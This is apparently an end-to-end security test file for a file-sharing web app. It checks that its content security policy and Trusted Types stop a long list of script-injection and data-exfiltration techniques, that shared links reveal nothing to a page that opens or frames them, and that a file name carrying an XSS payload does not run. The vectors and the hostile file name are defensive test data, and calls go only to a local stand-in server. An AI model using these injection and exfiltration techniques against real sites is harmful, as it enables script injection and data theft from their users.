/** Somebody who got something into the page after all: what the content security policy and Trusted Types leave them. */
import { writeFile } from 'node:fs/promises';
import { createServer, type Server as HttpServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { en } from '../src/strings/en';
import { openProfile, type Profile } from './browser/chromium';
import { newFolder } from './browser/folders';
import { type Server, startServer } from './browser/server';
import { ada, choose, share, signUp, waitUntilThrough } from './browser/steps';

/** Each tries to run `code`, or to reach `elsewhere`. To throw is to fail. */
const ATTEMPTS: Record<string, (code: string, elsewhere: string) => unknown> = {
  'markup by innerHTML': (code) => add('div', { innerHTML: `<img src=x onerror="${code}">` }),
  'markup by insertAdjacentHTML': (code) =>
    document.body.insertAdjacentHTML('beforeend', `<img src=x onerror="${code}">`),
  'markup by a range': (code) =>
    document.body.append(document.createRange().createContextualFragment(`<script>${code}</script>`)),
  'markup by a parser': (code) =>
    document.body.append(new DOMParser().parseFromString(`<img src=x onerror="${code}">`, 'text/html').body),
  'a frame with a document of its own': (code) => add('iframe', { srcdoc: `<script>parent.${code}</script>` }),
  'an inline script': (code) => add('script', { textContent: code }),
  'an inline script by its text node': (code) => {
    const script = document.createElement('script');
    script.append(document.createTextNode(code));
    document.body.append(script);
  },
  'a handler in an attribute': (code) => {
    const button = document.createElement('button');
    button.setAttribute('onclick', code);
    button.click();
  },
  'a javascript: address': (code) => add('a', { href: `javascript:void ${code}` }).click(),
  // biome-ignore lint/security/noGlobalEval: that it does not work is the point
  eval: (code) => eval(code),
  'new Function': (code) => new Function(code)(),
  'a timer with a text': (code) => setTimeout(code as unknown as () => void),
  'a script from elsewhere': (_, elsewhere) => add('script', { src: elsewhere }),
  'a script from a blob': (code) =>
    add('script', { src: URL.createObjectURL(new Blob([code], { type: 'text/javascript' })) }),
  'a module from elsewhere': (_, elsewhere) => add('script', { type: 'module', src: elsewhere }),
  'a worker from a blob': (_, elsewhere) =>
    new Worker(URL.createObjectURL(new Blob([`fetch('${elsewhere}')`], { type: 'text/javascript' }))),
  'a policy of its own': (code) => {
    const types = Reflect.get(window, 'trustedTypes');
    const policy = types.createPolicy('mine', { createScript: (text: string) => text });
    // biome-ignore lint/security/noGlobalEval: that it does not work is the point
    eval(policy.createScript(code));
  },
  fetch: (_, elsewhere) => fetch(elsewhere, { mode: 'no-cors' }),
  'an XMLHttpRequest': (_, elsewhere) => {
    const request = new XMLHttpRequest();
    request.open('GET', elsewhere);
    request.send();
  },
  'a beacon': (_, elsewhere) => navigator.sendBeacon(elsewhere, 'keys'),
  'a WebSocket': (_, elsewhere) => new WebSocket(elsewhere.replace('http', 'ws')),
  'an event source': (_, elsewhere) => new EventSource(elsewhere),
  'an image': (_, elsewhere) => Object.assign(new Image(), { src: elsewhere }),
  'a background': (_, elsewhere) => Object.assign(document.body.style, { backgroundImage: `url(${elsewhere})` }),
  'a style sheet': (_, elsewhere) => add('link', { rel: 'stylesheet', href: elsewhere }),
  'a font': (_, elsewhere) => new FontFace('theirs', `url(${elsewhere})`).load(),
  'a film': (_, elsewhere) => add('video', { src: elsewhere }).load(),
  'a frame': (_, elsewhere) => add('iframe', { src: elsewhere }),
  'an object': (_, elsewhere) => add('object', { data: elsewhere }),
  'a form': (_, elsewhere) => {
    add('iframe', { name: 'answers' });
    add('form', { action: elsewhere, method: 'post', target: 'answers' }).submit();
  },
  'a base address': (_, elsewhere) => {
    const base = Object.assign(document.createElement('base'), { href: `${elsewhere}/` });
    document.head.append(base);
    Object.assign(new Image(), { src: 'image.png' });
    // An image finds out where it is a moment later.
    setTimeout(() => base.remove());
  },
};

/** Goes into the page with each attempt. */
function add<Tag extends keyof HTMLElementTagNameMap>(tag: Tag, properties: object): HTMLElementTagNameMap[Tag] {
  const element = Object.assign(document.createElement(tag), properties);
  document.body.append(element);
  return element;
}

// biome-ignore lint/suspicious/noTemplateCurlyInString: a template that nobody must fill
const HOSTILE_NAME = '<img src=x onerror=window.pwned=[1]>{{7*7}}${7*7}<b>';
const SETTLED_MS = 3_000;
const LONGEST_MS = 30_000;

let server: Server;
let profile: Profile;
/** Another site, which notes who comes, under the number of the attempt. */
let elsewhere: HttpServer;
let theirs: string;
const arrived = new Set<string>();

beforeAll(async () => {
  server = await startServer();
  profile = await openProfile();
  elsewhere = createServer((asked, answer) => {
    const number = /^\/(\d+)/.exec(asked.url ?? '')?.[1];
    if (number) arrived.add(number);
    answer.setHeader('access-control-allow-origin', '*');
    answer.setHeader('content-type', number ? 'text/javascript' : 'text/html');
    answer.end(number ? `pwned.push('${number}')` : '<!doctype html><title>hostile</title>');
  });
  elsewhere.on('upgrade', (asked, socket) => {
    arrived.add(/^\/(\d+)/.exec(asked.url ?? '')?.[1] ?? '');
    socket.destroy();
  });
  await new Promise<void>((ready) => elsewhere.listen(0, '127.0.0.1', ready));
  theirs = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
});

afterAll(async () => {
  await profile.close();
  elsewhere.closeAllConnections();
  elsewhere.close();
  await server.stop();
});

/** Makes all attempts in the page, and answers which came through. Waits for so many of them, if not for ever. */
async function succeededIn(page: Page, expected: number): Promise<string[]> {
  await page.goto(`${server.url}/sign-in`);
  await page.getByRole('button', { name: en.signIn.submit }).waitFor();
  arrived.clear();
  const attempts = Object.values(ATTEMPTS).map(String);
  // Through the driver, which no policy binds: each attempt has its foot in the door already.
  const session = await page.context().newCDPSession(page);
  await session.send('Runtime.evaluate', { expression: `window.pwned = []; ${add}` });
  for (const [number, attempt] of attempts.entries()) {
    const code = JSON.stringify(`pwned.push('${number}')`);
    const call = `try { Promise.resolve((${attempt})(${code}, '${theirs}/${number}')).catch(() => {}) } catch {}`;
    await session.send('Runtime.evaluate', { expression: call, allowUnsafeEvalBlockedByCSP: false });
  }
  const names = Object.keys(ATTEMPTS);
  const succeeded = async () => {
    const ran = await page.evaluate(() => Reflect.get(window, 'pwned') as string[]);
    return [...new Set([...ran, ...arrived])].map((number) => names[Number(number)] ?? number).toSorted();
  };
  await page.waitForTimeout(SETTLED_MS);
  const end = Date.now() + LONGEST_MS;
  while ((await succeeded()).length < expected && Date.now() < end) await page.waitForTimeout(SETTLED_MS);
  return succeeded();
}

test('without the policy, every attempt comes through', async () => {
  const open = await openProfile({ withoutPolicy: true });
  const all = Object.keys(ATTEMPTS).toSorted();
  expect(await succeededIn(open.page, all.length)).toEqual(all);
  await open.close();
});

test('with the policy, none does', async () => {
  const stopped = await openProfile();
  expect(await succeededIn(stopped.page, 0)).toEqual([]);
  expect(new URL(stopped.page.url()).origin).toBe(server.url);
  await stopped.close();
});

/** What a page of somebody else can tell of a link that it opens in a window and shows in a frame. */
async function seenOf(link: string, { withoutHeaders }: { withoutHeaders: boolean }) {
  const stranger = await openProfile();
  if (withoutHeaders)
    await stranger.context.route('**/s/*', async (route) => {
      const response = await route.fetch();
      const { 'content-type': type = '' } = response.headers();
      await route.fulfill({ response, headers: { 'content-type': type } });
    });
  await stranger.page.goto(theirs);
  const [opened] = await Promise.all([
    stranger.context.waitForEvent('page'),
    stranger.page.evaluate((link) => {
      Reflect.set(window, 'theirs', window.open(link));
      document.body.append(Object.assign(document.createElement('iframe'), { src: link }));
    }, link),
  ]);
  await opened.getByRole('button', { name: en.link.downloadNamed('plan.pdf') }).waitFor();
  await stranger.page.waitForTimeout(SETTLED_MS);
  const seen = {
    opener: await opened.evaluate(() => Boolean(window.opener)),
    window: await stranger.page.evaluate(() => !(Reflect.get(window, 'theirs') as Window).closed),
    frame: stranger.page.frames().some((frame) => frame.parentFrame() && frame.url().startsWith(server.url)),
  };
  await stranger.close();
  return seen;
}

test('e2_a_page_that_opens_or_frames_a_link_learns_nothing_of_it', async () => {
  const samples = await newFolder();
  await writeFile(join(samples, 'plan.pdf'), 'plan');
  await signUp(profile.page, server.url, ada);
  await choose(profile.page, en.drive.addFiles, join(samples, 'plan.pdf'));
  await waitUntilThrough(profile.page, 'plan.pdf');
  const link = await share(profile.page, 'plan.pdf');
  const nothing = { opener: false, window: false, frame: false };
  expect(await seenOf(link, { withoutHeaders: false })).toEqual(nothing);
  expect(await seenOf(link, { withoutHeaders: true })).toMatchObject({ opener: true, window: true, frame: true });
});

test('names are shown, and nothing in them runs', async () => {
  const samples = await newFolder();
  await writeFile(join(samples, HOSTILE_NAME), 'a file');
  await choose(profile.page, en.drive.addFiles, join(samples, HOSTILE_NAME));
  await waitUntilThrough(profile.page, HOSTILE_NAME);
  const link = await share(profile.page, HOSTILE_NAME);
  await profile.page.goto(`${server.url}/shares`);
  await profile.page.getByText(HOSTILE_NAME).first().waitFor();
  const stranger = await openProfile();
  await stranger.page.goto(link);
  await stranger.page.getByRole('heading', { name: HOSTILE_NAME }).waitFor();
  for (const page of [profile.page, stranger.page])
    expect(await page.evaluate(() => Reflect.has(window, 'pwned'))).toBe(false);
  expect([...profile.complaints, ...stranger.complaints]).toEqual([]);
  await stranger.close();
});
